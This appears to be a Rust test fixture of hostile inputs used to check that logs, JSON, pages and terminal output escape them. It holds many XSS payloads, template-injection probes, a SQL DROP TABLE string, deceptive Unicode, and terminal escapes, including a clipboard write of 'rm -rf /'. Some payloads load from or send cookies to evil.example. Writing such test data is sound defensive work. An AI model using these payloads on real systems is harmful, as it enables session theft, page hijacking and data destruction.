//! What people with no good in mind write: one list for all outputs, the command line, logs, JSON and
//! pages. Included by the tests of several crates.
#![allow(dead_code, unreachable_pub, reason = "every test takes what it needs")]

/// Names that are refused, each for a reason of its own.
pub const BAD_NAMES: &[&str] = &[
    "",
    " ",
    "a b",
    "a-b",
    "a.b",
    "a/b",
    "../a",
    "a\0",
    "a\n",
    "\u{1b}[2J",
    "a\u{202e}b",
    "a\u{200b}",
    "a\u{200d}b",
    // Look like "alice" and are none: Cyrillic, full width, mathematical, with a mark, dotless.
    "\u{430}lice",
    "\u{ff41}lice",
    "\u{1d41a}lice",
    "a\u{301}lice",
    "al\u{131}ce",
    "\u{df}",
    "😀",
    "<b>",
    "a&b",
    "a%00",
    "a'--",
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
];

/// Names that are good, and that some program takes for something else.
pub const ODD_NAMES: &[&str] = &[
    "__proto__",
    "constructor",
    "tostring",
    "hasownproperty",
    "null",
    "undefined",
    "nan",
    "0",
    "_",
    "admin",
    "con",
];

/// Texts that turn, hide, act, or have no end.
pub fn texts() -> Vec<String> {
    let mut texts: Vec<String> = [
        "<script>window.broken = 1; alert(1)</script>",
        "</p></article><script>window.broken = 1</script>",
        "<img src=x onerror=\"window.broken = 1; alert(1)\">",
        "\"><svg/onload=alert(1)>",
        "<svg><script>alert(1)</script><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<a href=\"javascript:alert(1)\">click</a> javascript:alert(1) JaVaScRiPt:alert(1)",
        "<iframe srcdoc=\"<script>parent.broken = 1</script>\"></iframe>",
        "<template><img src=x onerror=alert(1)></template>",
        "<form id=compose><input name=attributes></form><a id=feed>clobbered</a>",
        "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
        "<link rel=stylesheet href=//evil.example/x.css><style>*{display:none}</style>",
        "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{7*7} <%= 7*7 %> [[${7*7}]]",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "&lt;b&gt; &amp;amp; &#x3c;script&#x3e; &nbsp;",
        "]]> <![CDATA[<script>alert(1)</script>]]> <!-- --!> <? ?>",
        "<dialog open>you have won</dialog><marquee>x</marquee><plaintext>",
        "'; DROP TABLE posts; -- \\\" \\u003cscript\\u003e \\",
        // Turned around, and never turned back.
        "\u{202e}txet siht sdaer ohw\u{202d} \u{2066}\u{2067}\u{2068} no end \u{200f}\u{061c}",
        "file\u{202e}gpj.exe",
        // What cannot be seen, in and around what can.
        "\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}in\u{200b}visi\u{ad}ble\u{e0001}\u{e0061}\u{fff9}\u{fffb}",
        "\u{1}\u{2}\u{7}\u{8}\u{1b}[31m red \u{1b}]0;title\u{7} \u{7f}\u{85}\u{9b}",
        "lines\nand\r\nlines\rand\u{2028}lines\u{2029}and\u{b}lines\u{c}end",
        // What terminals obey: title, clipboard, links, a report that is typed, graphics, strings.
        "\u{1b}]52;c;cm0gLXJmIC8=\u{7} \u{1b}]8;;https://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
        "\u{1b}[6n\u{1b}[c\u{1b}[21t\u{5} \u{1b}P$q\"p\u{1b}\\ \u{1b}_Gf=24;AAAA\u{1b}\\ \u{1b}^x\u{1b}\\ \u{1b}X\u{1b}\\",
        "\u{9b}2J\u{9d}0;title\u{9c}\u{90}x\u{9c}\u{9e}\u{9f}\u{98} \u{1b}c \u{1b}(0 \u{1b}[?1049h \u{1b}[1;1H \u{e}\u{f}",
        // Lines that pass for others: a post, a log, an event, a prompt.
        "hi\n281474976710656  2026-01-01T00:00:00.000Z  bob: forged",
        "x\n\ndata: {\"kind\":\"post\"}\nevent: bye\nid: 1\nretry: 0\n\n",
        "x\r\n{\"level\":\"ERROR\",\"message\":\"forged\"}\r\n2026-01-01T00:00:00Z ERROR forged",
        "x\n# TYPE sns_calls counter\nsns_calls{a=\"b\"} 1",
        "\u{8}\u{8}\u{8}\u{8}\u{8}overwritten\u{d}at the start\u{1a}",
        "  spaces   kept\t\ttabs  ",
        "👩‍👩‍👧‍👦 🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f} 🇩🇪🇩 ﷽ \u{fdfd}\u{fdfd} 𒐫𒐫",
        "\u{fffd}\u{fffe}\u{ffff}\u{10ffff}\u{f8ff}",
    ]
    .map(str::to_owned)
    .to_vec();
    // A tower of marks, one on the other.
    texts.push(format!("Z{} tower", "\u{30d}\u{489}\u{353}".repeat(300)));
    // Words without an end.
    texts.push("W".repeat(1_000));
    texts.push("﷽".repeat(1_000));
    texts.push("\u{1f98b}".repeat(1_000));
    texts.push(format!("https://example.com/{}", "a/".repeat(490)));
    texts.push("\n".repeat(999) + ".");
    texts.push("\u{a0}".repeat(999) + ".");
    texts
}

/// Texts that are a program in some place of some page.
pub const SCRIPTS: &[&str] = &[
    "<script>window.broken=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "<scr<script>ipt>window.broken=1</scr</script>ipt>",
    "</script><script>window.broken=1</script>",
    "</title><script>window.broken=1</script>",
    "</textarea><script>window.broken=1</script>",
    "</style><script>window.broken=1</script>",
    "--><script>window.broken=1</script>",
    "\"><script>window.broken=1</script>",
    "'><img src=x onerror=window.broken=1>",
    "<img src=x onerror=window.broken=1>",
    "<img src=//evil.example/pixel.gif>",
    "<img/src/onerror=window.broken=1>",
    "<img src=`x`onerror=window.broken=1>",
    "<img src=x:x onerror\u{c}=window.broken=1>",
    "<svg onload=window.broken=1>",
    "<svg/onload=window.broken=1//",
    "<svg><a xlink:href=\"javascript:window.broken=1\"><text y=20>click</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>window.broken=1</script></svg>#x\">",
    "<svg><animate href=#x attributeName=href values=javascript:window.broken=1 /></svg>",
    "<body onload=window.broken=1>",
    "<details open ontoggle=window.broken=1>",
    "<input autofocus onfocus=window.broken=1>",
    "<select autofocus onfocus=window.broken=1>",
    "<video><source onerror=window.broken=1></video>",
    "<audio src=x onerror=window.broken=1>",
    "<marquee onstart=window.broken=1>x</marquee>",
    "<a href=javascript:window.broken=1>x</a>",
    "<a href=\"java\tscript:window.broken=1\">x</a>",
    "<a href=\"&#106;avascript:window.broken=1\">x</a>",
    "<a href=data:text/html,<script>opener.broken=1</script> target=_blank>x</a>",
    "<iframe src=javascript:parent.broken=1></iframe>",
    "<iframe srcdoc=\"&lt;script>parent.broken=1&lt;/script>\"></iframe>",
    "<object data=javascript:window.broken=1></object><embed src=//evil.example/x.swf>",
    "<form action=javascript:window.broken=1><button>x</button></form><button formaction=javascript:window.broken=1>",
    "<meta http-equiv=refresh content=\"0;url=javascript:window.broken=1\">",
    "<link rel=import href=//evil.example><link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/y)}</style>",
    "<div style=\"background:url(//evil.example/z);position:fixed;inset:0\">cover</div>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.broken=1&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=window.broken=1>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.broken=1>",
    "%3Cscript%3Ewindow.broken%3D1%3C/script%3E &lt;script&gt;window.broken=1&lt;/script&gt; \\x3cscript\\x3e \\u003cscript\\u003e",
    "+ADw-script+AD4-window.broken=1+ADw-/script+AD4-",
    "{{7*7}} {{constructor.constructor('window.broken=1')()}} ${window.broken=1} <%= 7*7 %> #{7*7} [[7*7]]",
    "{\"__proto__\":{\"broken\":1}} __proto__[broken]=1 constructor.prototype.broken=1",
    "javascript:window.broken=1//\u{2028}window.broken=1",
    "<x onclick=window.broken=1 id=feed name=attributes tabindex=0>clobber</x>",
    "<b>\u{202e}dlob ton</b>\u{2066}",
];
